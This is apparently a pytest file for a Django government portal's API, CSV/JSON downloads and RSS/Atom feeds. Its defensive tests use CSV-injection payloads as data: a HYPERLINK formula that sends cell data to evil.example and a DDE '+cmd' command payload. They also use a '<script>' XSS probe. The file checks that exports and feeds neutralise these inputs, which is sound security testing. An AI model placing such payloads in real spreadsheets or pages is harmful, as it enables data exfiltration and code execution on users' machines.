"""What programs and spreadsheets get: the API (published items, filters, the history on one
item, 410 for a withdrawn one, in the OpenAPI schema), the CSV and JSON downloads (formulas
served as text) and the RSS and Atom feeds of changes (one entry per version, ids that never
change, descriptions as escaped text)."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

import pytest
from drf_spectacular.generators import SchemaGenerator

from portal.models import StaffRole
from portal.spreadsheets import FORMULA_START
from powers.models import Category
from tests.factories import staff
from tests.powers.conftest import BASIS, DUTIES, draft, publish, published, revise

pytestmark = pytest.mark.django_db
Role = StaffRole.Role
ATOM = "{http://www.w3.org/2005/Atom}"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def body(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8-sig")


@pytest.fixture
def items(agency_a, agency_b, department_a, drafter_a, reviewer_a, publisher_a, dept_drafter,
          dept_editor, staff_b):  # fmt: skip
    other_b = staff("other_b", agency_b, Role.REVIEWER, Role.PUBLISHER)
    return {
        "licence": published(agency_a, drafter_a, reviewer_a, publisher_a),
        "penalty": published(agency_a, drafter_a, reviewer_a, publisher_a, code="处罚-1",
                             name="对无证经营的行政处罚", category=Category.PENALTY,
                             basis="《无证无照经营查处办法》第十三条"),
        "dept": published(department_a, dept_drafter, dept_editor, dept_editor, code="确认-1",
                          name="局确认事项", category=Category.CONFIRMATION),
        "other": published(agency_b, staff_b, other_b, other_b, name="杭州许可"),
    }  # fmt: skip


def test_the_api_lists_published_items_with_their_responsibilities(client, items, agency_a,
                                                                   drafter_a):  # fmt: skip
    draft(agency_a, drafter_a, code="草稿-1", name="草稿事项")
    data = client.get("/api/v1/power-items/").json()
    assert data["count"] == 4
    licence = next(row for row in data["results"] if row["id"] == items["licence"].pk)
    assert licence["code"] == "许可-00001-000" and licence["basis"] == BASIS
    assert (licence["category"], licence["agency"]["code"]) == ("licensing", agency_a.code)
    assert licence["responsibilities"] == [
        {"duty": duty, "accountability_basis": basis} for duty, basis in DUTIES
    ]
    assert licence["url"] == f"http://testserver/powers/{items['licence'].pk}/"
    assert "草稿事项" not in json.dumps(data, ensure_ascii=False)


def test_the_api_filters_by_agency_category_code_and_words(client, items, agency_a,
                                                           department_a):  # fmt: skip
    def names(**params) -> set[str]:
        response = client.get("/api/v1/power-items/", params)
        assert response.status_code == 200
        return {row["name"] for row in response.json()["results"]}

    assert names(agency=agency_a.code) == {"食品经营许可", "对无证经营的行政处罚", "局确认事项"}
    assert names(agency=department_a.code) == {"局确认事项"}
    assert names(category="penalty") == {"对无证经营的行政处罚"}
    assert names(code="处罚-1") == {"对无证经营的行政处罚"}
    assert names(q="无证无照") == {"对无证经营的行政处罚"}
    assert client.get("/api/v1/power-items/", {"category": "nonsense"}).status_code == 400


def test_one_item_in_the_api_carries_its_history(client, items, drafter_a, reviewer_a,
                                                 publisher_a):  # fmt: skip
    item = items["licence"]
    publish(
        revise(item, drafter_a, office="食品安全综合协调科"), drafter_a, reviewer_a, publisher_a
    )
    data = client.get(f"/api/v1/power-items/{item.pk}/", HTTP_ACCEPT_LANGUAGE="en").json()
    assert data["version"] == 2
    assert [(v["number"], v["kind"]) for v in data["history"]] == [(2, "changed"), (1, "created")]
    assert data["history"][0]["changes"] == [
        "Office in charge: 食品经营监管科 → 食品安全综合协调科"
    ]
    assert data["history"][0]["reason"] == "法律修订，更新设定依据。"


def test_the_api_is_in_the_openapi_schema_with_its_filters():
    schema = SchemaGenerator(patterns=None).get_schema(request=None, public=True)
    operation = schema["paths"]["/api/v1/power-items/"]["get"]
    assert {"agency", "category", "code", "q", "page"} <= {
        p["name"] for p in operation["parameters"]
    }
    assert "/api/v1/power-items/{id}/" in schema["paths"]
    components = schema["components"]["schemas"]
    assert {"PowerItem", "PowerItemDetail", "PowerItemVersion", "PowerResponsibility"} <= set(
        components
    )
    assert "power_item" in components["Decision"]["properties"]


def test_the_csv_and_json_downloads_hold_the_published_items(client, items, agency_a):
    rows = list(csv.reader(io.StringIO(body(client.get("/data/power-items.csv")))))
    header = rows[0]
    assert header[:3] == ["事项编码", "事项名称", "职权类别"]
    assert len(rows) == 5
    licence = next(row for row in rows if row[0] == "许可-00001-000" and "杭州" not in row[1])
    cell = licence[header.index("责任事项（追责依据）")]
    assert cell.splitlines() == [f"{duty}（{basis}）" for duty, basis in DUTIES]
    assert licence[header.index("设定依据")] == BASIS
    agency_rows = list(csv.reader(io.StringIO(body(client.get(
        f"/data/{agency_a.code}/power-items.csv")))))  # fmt: skip
    assert {row[1] for row in agency_rows[1:]} == {
        "食品经营许可",
        "对无证经营的行政处罚",
        "局确认事项",
    }
    data = json.loads(body(client.get("/data/power-items.json")))
    assert {row["name"] for row in data} == {"食品经营许可", "对无证经营的行政处罚", "局确认事项",
                                             "杭州许可"}  # fmt: skip


def test_the_csv_serves_formulas_as_text(client, agency_a, drafter_a, reviewer_a, publisher_a):
    published(agency_a, drafter_a, reviewer_a, publisher_a, name=HYPERLINK,
              basis="+cmd|' /C calc'!A0", duties=[("@SUM(1+1)", "-2+3")])  # fmt: skip
    cells = [cell for row in csv.reader(io.StringIO(body(client.get("/data/power-items.csv"))))
             for cell in row[1:]]  # fmt: skip
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + HYPERLINK in cells


def test_the_feeds_have_an_entry_per_change_with_ids_that_never_change(
    client, items, drafter_a, reviewer_a, publisher_a
):
    item = items["licence"]
    publish(
        revise(item, drafter_a, office="食品安全综合协调科"), drafter_a, reviewer_a, publisher_a
    )
    atom = ElementTree.fromstring(client.get("/feeds/powers.atom").content)  # noqa: S314 - ours
    entries = [e for e in atom.iter(f"{ATOM}entry") if f"/powers/{item.pk}/" in
               e.find(f"{ATOM}link").get("href")]  # fmt: skip
    ids = [entry.find(f"{ATOM}id").text for entry in entries]
    assert len(ids) == 2 and len(set(ids)) == 2
    assert all(i.startswith("tag:") for i in ids)
    assert {i.rsplit("#", 1)[1] for i in ids} == {"version-1", "version-2"}
    again = ElementTree.fromstring(client.get("/feeds/powers.atom").content)  # noqa: S314
    assert ids[0] in {entry.find(f"{ATOM}id").text for entry in again.iter(f"{ATOM}entry")}
    rss = client.get("/feeds/powers.rss").content.decode()
    assert "食品经营监管科 → 食品安全综合协调科" in rss
    assert f"/powers/{item.pk}/#version-2" in rss


def test_a_feed_description_is_escaped_text(client, agency_a, drafter_a, reviewer_a,
                                            publisher_a):  # fmt: skip
    item = published(agency_a, drafter_a, reviewer_a, publisher_a)
    publish(revise(item, drafter_a, office="<script>alert(1)</script>"), drafter_a, reviewer_a,
            publisher_a)  # fmt: skip
    rss = ElementTree.fromstring(client.get("/feeds/powers.rss").content)  # noqa: S314 - ours
    descriptions = [d.text or "" for d in rss.iter("description")]
    assert any("&lt;script&gt;" in d for d in descriptions)
    assert not any("<script>" in d for d in descriptions)
